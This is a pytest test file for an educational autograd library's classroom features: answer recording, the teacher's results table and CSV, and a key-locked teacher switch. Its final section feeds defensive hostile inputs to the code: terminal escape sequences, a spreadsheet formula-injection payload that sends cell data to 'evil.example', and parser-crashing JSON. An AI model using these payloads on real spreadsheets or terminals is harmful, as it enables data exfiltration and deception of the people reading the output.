"""The class's answers: recording (autograd_viz.course.answers), the teacher's table and key
(autograd_viz.classroom), and the teacher switch that needs the teacher's machine."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import subprocess
import sys
from fractions import Fraction

import ipywidgets as widgets
import pytest

from autograd_viz import Value, classroom, quiz
from autograd_viz.classroom import (
    NoAnswersError,
    SkippedAnswersWarning,
    class_answers,
    format_table,
    hash_teacher_key,
    key_matches,
    main,
    write_teacher_key,
)
from autograd_viz.course import answers, teacher
from autograd_viz.course.answers import AnswersError, question_id, record_answers, stop_recording
from autograd_viz.exercises import TEACHER_ENV, Exercise, teacher_mode
from autograd_viz.front.inline import WIDGETS_ENV

QUESTION = "With x=2, y=3 and z=(x+y)·y, what is ∂z/∂y?"


@pytest.fixture(autouse=True)
def _clean(monkeypatch, tmp_path):
    """No recording, no teacher's machine, no key: a student's kernel in an empty folder."""
    monkeypatch.delenv(TEACHER_ENV, raising=False)
    monkeypatch.delenv(classroom.KEY_ENV, raising=False)
    monkeypatch.setenv(WIDGETS_ENV, "1")
    monkeypatch.chdir(tmp_path)
    saved = teacher.registry.teacher, teacher.registry.unlocked
    teacher.registry.teacher = teacher.registry.unlocked = False
    stop_recording()
    yield
    stop_recording()
    teacher.registry.teacher, teacher.registry.unlocked = saved


def _z() -> Value:
    x, y = Value(2.0, label="x"), Value(3.0, label="y")
    z = (x + y) * y
    z.label = "z"
    return z


def _learner(folder, student, exercise_answers, quiz_answers):
    """One learner's notebook: recording on, then the exercise and the quiz answered."""
    record_answers(folder / f"{student.lower()}.answers.jsonl", student=student)
    ex = Exercise(QUESTION, answer=8, hint="y is used twice.")
    for text in exercise_answers:
        ex.submit(text)
    q = quiz(_z())
    for label, text in quiz_answers:
        q.submit(label, text)
    stop_recording()


@pytest.fixture
def class_folder(tmp_path):
    folder = tmp_path / "answers"
    folder.mkdir()
    _learner(folder, "Ada", ["8"], [("∂z/∂y", "5"), ("∂z/∂y", "8")])
    # Ben: 5 then 5.0 (one wrong answer, typed twice), then right; the quiz's 5 repeated
    _learner(folder, "Ben", ["5", "5.0", "5+3"], [("∂z/∂y", "5"), ("∂z/∂y", "5")])
    _learner(folder, "Cy", ["5", "6"], [("∂z/∂y", "8")])
    # Ben restarts his kernel: a second session, the same learner, into a second file
    record_answers(folder / "ben-2.answers.jsonl", student="Ben")
    quiz(_z()).submit("∂z/∂x", "3")
    stop_recording()
    shutil.copy(folder / "ada.answers.jsonl", folder / "ada (1).answers.jsonl")  # sent twice
    return folder


def test_three_learners_files_make_the_teachers_table(class_folder):
    rows = {r.prompt: r for r in class_answers(class_folder)}
    assert list(rows) == [QUESTION, "quiz on z (x = 2, y = 3): ∂z/∂y",
                          "quiz on z (x = 2, y = 3): ∂z/∂x"]  # fmt: skip
    ex = rows[QUESTION]
    assert (ex.learners, ex.attempts, ex.right_first, ex.right_eventually) == (3, 6, 1, 2)
    assert ex.first_try == Fraction(1, 3) and ex.eventually == Fraction(2, 3)
    assert (ex.common_wrong, ex.common_wrong_learners) == ("5", 2)  # Ben's 5.0 is Ben's 5
    dy = rows["quiz on z (x = 2, y = 3): ∂z/∂y"]
    # Ada 5, 8; Ben 5 (his second 5 is no new attempt); Cy 8
    assert (dy.learners, dy.attempts, dy.first_try, dy.eventually) == (3, 4, Fraction(1, 3),
                                                                       Fraction(2, 3))  # fmt: skip
    assert (dy.common_wrong, dy.common_wrong_learners) == ("5", 2)
    dx = rows["quiz on z (x = 2, y = 3): ∂z/∂x"]
    assert (dx.learners, dx.attempts, dx.eventually, dx.common_wrong) == (1, 1, 1, None)
    assert dy.question.startswith("quiz:") and dy.question.endswith(":∂z/∂y")
    assert ex.question == question_id("exercise", QUESTION)


def test_the_command_prints_the_table_and_writes_csv(class_folder, tmp_path, capsys):
    out = tmp_path / "out.csv"
    assert main([str(class_folder), "--csv", str(out)]) == 0
    printed = capsys.readouterr()
    lines = printed.out.splitlines()
    assert lines[0].split("  ")[0] == "question"
    header = "learners  attempts  right 1st try  right in the end  most common wrong answer"
    assert header in lines[0]
    exercise_line = next(line for line in lines if line.startswith("With x=2"))
    assert "1/3 (33%)" in exercise_line and "2/3 (67%)" in exercise_line
    assert exercise_line.endswith("5 (2 of 3)")
    assert printed.err == ""  # every file was an answers file
    table = list(csv.DictReader(out.open(encoding="utf-8")))
    assert table[0]["question"] == QUESTION
    assert (table[0]["right_first_try"], table[0]["right_eventually"]) == ("0.3333", "0.6667")
    assert table[0]["most_common_wrong_answer"] == "5"
    assert table[0]["learners_with_that_answer"] == "2"


def test_each_attempt_is_one_line_with_the_documented_fields(tmp_path):
    path = tmp_path / "ada.answers.jsonl"
    record_answers(path, student="Ada")
    ex = Exercise("Name the pass that fills in the gradients.", answer="backward")
    ex.submit("forward")
    ex.submit("forward")  # Check pressed again on the same text: not a new attempt
    ex.submit("Backward")
    lines = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert [(r["seq"], r["answer"], r["read"], r["right"]) for r in lines] == [
        (1, "forward", None, False), (2, "Backward", None, True)]  # fmt: skip
    assert set(lines[0]) == {"format", "student", "session", "seq", "question", "prompt",
                             "kind", "answer", "read", "right", "time"}  # fmt: skip
    assert lines[0]["student"] == "Ada" and lines[0]["kind"] == "exercise"
    assert lines[0]["time"].endswith("+00:00")


def test_question_ids_do_not_depend_on_the_notebook():
    assert question_id("exercise", "2 + 3 = ?") == question_id("exercise", " 2 +  3 = ? ")
    assert question_id("exercise", "2 + 3 = ?") != question_id("exercise", "2 + 4 = ?")
    ids = []
    for _ in range(2):  # the same quiz built twice (two notebooks) is the same question
        record_answers(f"run{len(ids)}.answers.jsonl", student="Ada")
        quiz(_z()).submit("∂z/∂y", "8")
        ids.append(json.loads(answers.recording().path.read_text())["question"])
    other = quiz(_z() * 2)  # another graph: another question, though its label is ∂…/∂y too
    other.submit(other.blanks[-1].label, "1")
    last = answers.recording().path.read_text().splitlines()[-1]
    assert ids[0] == ids[1] and json.loads(last)["question"] != ids[0]


def test_nothing_is_recorded_unless_the_notebook_turns_it_on(tmp_path):
    code = (
        "from autograd_viz import Value, quiz\nfrom autograd_viz.course import answers\n"
        "from autograd_viz.exercises import Exercise\n"
        "Exercise('2 + 3 = ?', answer=5).submit('4')\n"
        "x = Value(2.0, label='x'); y = x * x; y.label = 'y'\n"
        "quiz(y).submit('∂y/∂x', '3')\n"
        "print(answers.recording())\n"
    )
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    out = subprocess.run([sys.executable, "-c", code], cwd=tmp_path, env=env,
                         capture_output=True, text=True)  # fmt: skip
    assert out.stdout.strip() == "None", out.stderr
    assert list(tmp_path.iterdir()) == []  # no file written anywhere in the folder


def test_stop_recording_stops_writing(tmp_path):
    rec = record_answers(student="Ada")
    assert rec.path.name == "Ada.answers.jsonl" and "Hand in that file" in repr(rec)
    Exercise("1 + 1 = ?", answer=2).submit("2")
    stop_recording()
    Exercise("1 + 2 = ?", answer=3).submit("3")
    assert len((tmp_path / "Ada.answers.jsonl").read_text().splitlines()) == 1


def test_a_file_that_cannot_be_written_warns_and_the_check_still_answers(tmp_path):
    path = tmp_path / "ada.answers.jsonl"
    record_answers(path, student="Ada")
    path.unlink()
    path.mkdir()  # the file became a folder: appending fails
    with pytest.warns(answers.RecordingWarning, match="this answer was not recorded"):
        assert Exercise("1 + 1 = ?", answer=2).submit("2") is True


@pytest.mark.parametrize(
    ("args", "kwargs", "message"),
    [
        ((), {}, "needs a file name or a student name"),
        ((), {"student": "  "}, "must be the learner's name"),
        ((".",), {}, "is a folder"),
    ],
)
def test_recording_refuses_what_it_cannot_write(args, kwargs, message):
    with pytest.raises(AnswersError, match=message):
        record_answers(*args, **kwargs)


# ---- robust to what a folder of handed-in files really holds ---------------------------------


def test_foreign_and_broken_files_are_skipped_with_a_warning_naming_them(class_folder):
    (class_folder / "notes.txt").write_text("bring snacks\n")
    (class_folder / "03_backprop.ipynb").write_text(json.dumps({"cells": [], "nbformat": 4}))
    (class_folder / "photo.png").write_bytes(b"\x89PNG\r\n\x1a\n\xff\xfe\x00")
    (class_folder / "empty.answers.jsonl").write_text("")
    good = (class_folder / "cy.answers.jsonl").read_text()
    (class_folder / "cy.answers.jsonl").write_text(good + '{"format": "autograd_viz.ans')
    with pytest.warns(SkippedAnswersWarning) as caught:
        rows = class_answers(class_folder)
    said = sorted(str(w.message) for w in caught)
    assert any(m.startswith("skipped notes.txt: not an answers file") for m in said), said
    assert any(m.startswith("skipped 03_backprop.ipynb: not an answers file") for m in said)
    assert any(m.startswith("skipped photo.png: cannot be read as text") for m in said)
    assert any(m.startswith("skipped empty.answers.jsonl: it is empty") for m in said)
    cut = len(good.splitlines()) + 1
    assert f"cy.answers.jsonl: skipped line(s) {cut}, which are not answers" in " ".join(said)
    assert rows[0].learners == 3 and rows[0].attempts == 6  # the same table as before


def test_the_command_warns_on_stderr_and_still_prints_the_table(class_folder, capsys):
    (class_folder / "notes.txt").write_text("bring snacks\n")
    assert main([str(class_folder)]) == 0
    printed = capsys.readouterr()
    assert printed.err.startswith("warning: skipped notes.txt: not an answers file")
    assert "5 (2 of 3)" in printed.out


def test_an_empty_folder_gets_a_clear_message(tmp_path, capsys):
    empty = tmp_path / "answers"
    empty.mkdir()
    with pytest.raises(NoAnswersError, match=r"the folder .*answers is empty: put the learners'"):
        class_answers(empty)
    assert main([str(empty)]) == 1
    assert "error: the folder" in capsys.readouterr().err
    (empty / "notes.txt").write_text("hello")
    with pytest.warns(SkippedAnswersWarning), pytest.raises(NoAnswersError, match="none of"):
        class_answers(empty)
    with pytest.raises(NoAnswersError, match="is not a folder"):
        class_answers(tmp_path / "missing")


# ---- the teacher's switch --------------------------------------------------------------------


def _states(widget: widgets.Widget) -> str:
    """Every saved-state value of a widget and its children, as a notebook would store it."""
    state = json.dumps(widget.get_state(), default=str)
    for child in getattr(widget, "children", ()):
        state += _states(child)
    return state


def test_a_students_teacher_mode_reveals_nothing_and_says_what_it_needs():
    ex = Exercise("2 + 3 = ?", answer=5)
    lock = teacher_mode()
    assert not isinstance(lock, widgets.ToggleButton)
    assert repr(lock) == (
        "Teacher switch: locked, nothing is revealed (needs AUTOGRAD_VIZ_TEACHER=1 or the key)"
    )
    assert lock._repr_mimebundle_()["text/plain"] == repr(lock)  # in full, not clipped
    assert f"start Jupyter with {TEACHER_ENV}=1" in lock.note.value
    assert 'teacher_mode(key="...")' in lock.note.value
    assert not lock.unlock("guess") and "No teacher's key is set here" in lock.note.value
    assert not ex.revealed and ex.solution.value == ""
    assert "<b>Answer:</b>" not in _states(lock) + _states(ex.widget)


def test_the_teachers_machine_reveals_as_before(monkeypatch):
    monkeypatch.setenv(TEACHER_ENV, "1")
    ex = Exercise("2 + 3 = ?", answer=5)
    switch = teacher_mode()
    assert isinstance(switch, widgets.ToggleButton)
    switch.value = True
    assert ex.revealed and "<b>Answer:</b> 5" in ex.solution.value


def test_the_teachers_key_unlocks_the_switch_and_a_wrong_key_does_not(tmp_path):
    write_teacher_key("open sesame, little owl", tmp_path)  # tmp_path is the notebook's folder here
    assert "open sesame, little owl" not in (tmp_path / "teacher_key.txt").read_text()
    ex = Exercise("2 + 3 = ?", answer=5)
    wrong = teacher_mode(key="open sesame, little ow")
    assert not isinstance(wrong, widgets.ToggleButton)
    assert "That is not the teacher's key." in wrong.note.value and not ex.revealed
    switch = teacher_mode(key="open sesame, little owl")
    assert isinstance(switch, widgets.ToggleButton)
    switch.value = True
    assert ex.revealed
    assert isinstance(teacher_mode(), widgets.ToggleButton)  # unlocked for this kernel


def test_the_key_typed_into_the_locked_box_turns_it_into_the_switch(monkeypatch):
    monkeypatch.setenv(
        classroom.KEY_ENV, hash_teacher_key("pi is three point one four", iterations=1000)
    )
    ex = Exercise("2 + 3 = ?", answer=5)
    lock = teacher_mode()
    lock.key.value = "pi is three point one four"
    lock.button.click()
    assert lock.key.value == ""  # the key is not kept in the widget
    (switch,) = lock.children
    assert isinstance(switch, widgets.ToggleButton)
    switch.value = True
    assert ex.revealed


def test_a_broken_key_file_is_named(tmp_path):
    (tmp_path / "teacher_key.txt").write_text("hunter2\n")
    lock = teacher_mode(key="hunter2")  # the key itself in the file is no hash: refused
    assert "teacher_key.txt does not hold a key made by" in lock.note.value


def test_the_plain_python_key_hash_is_pbkdf2(monkeypatch):
    key = "a key of some length"
    line = hash_teacher_key(key, salt=b"salt", iterations=2000)
    assert line.split("$")[3] == hashlib.pbkdf2_hmac("sha256", key.encode(), b"salt", 2000).hex()
    monkeypatch.delattr(hashlib, "pbkdf2_hmac")  # as where hashlib lacks it (Pyodide)
    assert key_matches(key, line) and not key_matches(key.upper(), line)
    assert hash_teacher_key(key, salt=b"salt", iterations=2000) == line


def test_the_table_text_clips_a_long_question(class_folder):
    rows = class_answers(class_folder)
    long = rows[0].__class__(**{**rows[0].__dict__, "prompt": "x" * 100})
    assert format_table([long], width=20).splitlines()[2].startswith("x" * 19 + "…  3")


@pytest.mark.parametrize("module", [answers, classroom])
def test_the_docstring_examples_run(module):
    import doctest

    result = doctest.testmod(module, optionflags=doctest.ELLIPSIS)
    assert result.attempted > 0 and result.failed == 0


# ---- hostile hand-ins and a teacher's slip -----------------------------------------------------


def _line(**changes) -> str:
    line = {"format": answers.FORMAT, "student": "Eve", "session": "0badc0de", "seq": 1,
            "question": "exercise:0000000000", "prompt": "2 + 3 = ?", "kind": "exercise",
            "answer": "6", "read": 6.0, "right": False,
            "time": "2026-12-01T14:30:05.123+00:00"}  # fmt: skip
    line.update(changes)
    return json.dumps(line)


@pytest.mark.parametrize(
    "bad",
    [
        "[" * 100_000,  # RecursionError in json.loads
        "{" * 100_000,
        _line(read=10**400),  # OverflowError when read as a float
        _line(seq=2, read=-(10**400)),
        '{"format": "autograd_viz.answers/1", "read": ' + "9" * 5000 + "}",  # int digit limit
        _line(time=["2026"]),
        _line(read="6"),
        "null",
        "[1, 2]",
    ],
    ids=str.split(
        "brackets braces huge-read huge-negative-read 5000-digits time-list read-text null list"
    ),
)
def test_a_malformed_line_is_skipped_with_a_warning(class_folder, capsys, bad):
    (class_folder / "eve.answers.jsonl").write_text(_line(seq=3) + "\n" + bad + "\n")
    with pytest.warns(SkippedAnswersWarning, match=r"eve.answers.jsonl: skipped line\(s\) 2"):
        rows = class_answers(class_folder)
    assert {r.prompt: r.learners for r in rows}[QUESTION] == 3  # the class's table is whole
    assert main([str(class_folder)]) == 0
    assert "eve.answers.jsonl: skipped line(s) 2" in capsys.readouterr().err


def test_learners_text_cannot_drive_the_teachers_terminal(class_folder, capsys):
    evil = "\x1b]0;pwned\x07\x1b[2J\x9b31m5\u202e"
    (class_folder / "eve\x1b[31m.answers.jsonl").write_text(
        _line(prompt="Eve's question\x1b[8m", answer=evil, read=None) + "\n" + "not json\n"
    )
    assert main([str(class_folder)]) == 0
    printed = capsys.readouterr()
    for stream in (printed.out, printed.err):
        assert not any((ord(c) < 32 and c != "\n") or 0x7F <= ord(c) < 0xA0 for c in stream)
        assert "\u202e" not in stream
    assert "\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m5\\u202e (1 of 1)" in printed.out
    assert "Eve's question\\x1b[8m" in printed.out
    assert "eve\\x1b[31m.answers.jsonl" in printed.err


def test_the_csv_keeps_learners_text_from_running_as_a_formula(class_folder, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    for k, (student, typed) in enumerate([("Eve", formula), ("Mal", formula),
                                          ("Oz", formula), ("Pi", formula)]):  # fmt: skip
        (class_folder / f"{student}.answers.jsonl").write_text(
            _line(
                student=student,
                session=f"s{k}",
                answer=typed,
                read=None,
                question=question_id("exercise", QUESTION),
                prompt=QUESTION,
            )
            + "\n"
        )
    out = tmp_path / "table.csv"
    assert main([str(class_folder), "--csv", str(out)]) == 0
    table = list(csv.DictReader(out.open(encoding="utf-8")))
    assert table[0]["most_common_wrong_answer"] == "'" + formula
    for typed in ["+1+1", "@SUM(A1)", "\tx", "\r=1", "-2+3"]:
        assert classroom.csv_cell(typed) == "'" + typed
    for typed in ["-3", "+2.5e-1", "5", "∂z/∂y", ""]:  # plain numbers and text stay as typed
        assert classroom.csv_cell(typed) == typed


def test_the_csv_never_replaces_a_hand_in_and_a_missing_folder_is_said_first(
    class_folder, tmp_path, capsys
):
    ada = class_folder / "ada.answers.jsonl"
    before = ada.read_bytes()
    for target in [ada, class_folder / "table.csv", tmp_path / "elsewhere.answers.jsonl"]:
        assert main([str(class_folder), "--csv", str(target)]) == 1
        printed = capsys.readouterr()
        assert printed.out == ""  # refused before the table is printed
        assert "would replace what was handed in" in printed.err
    assert ada.read_bytes() == before
    assert not (class_folder / "table.csv").exists()
    assert main([str(class_folder), "--csv", str(tmp_path / "missing" / "out.csv")]) == 1
    printed = capsys.readouterr()
    assert printed.out == "" and "Traceback" not in printed.err
    assert "the folder" in printed.err and "does not exist" in printed.err
    with pytest.raises(classroom.ClassroomError, match="answers file"):
        classroom.write_csv(class_answers(class_folder), ada)
    assert ada.read_bytes() == before


def test_a_failed_csv_write_leaves_the_old_table(class_folder, tmp_path, monkeypatch):
    out = tmp_path / "table.csv"
    out.write_text("the old table\n")

    def full_disk(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full_disk)
    with pytest.raises(classroom.ClassroomError, match="No space left"):
        classroom.write_csv(class_answers(class_folder), out)
    assert out.read_text() == "the old table\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["answers", "table.csv"]


def test_a_very_long_student_name_gets_a_safe_file_name(tmp_path):
    rec = record_answers(student="A" * 300)
    assert rec.path.exists() and len(rec.path.name.encode()) < 255
    assert rec.student == "A" * 300  # the full name is what the lines carry
    other = record_answers(student="A" * 299 + "B")
    assert other.path != rec.path  # two long names sharing a beginning stay apart
    assert len(record_answers(student="é" * 300).path.name.encode()) < 255
    with pytest.raises(AnswersError, match="cannot write the answers file"):
        record_answers("B" * 300 + ".answers.jsonl")
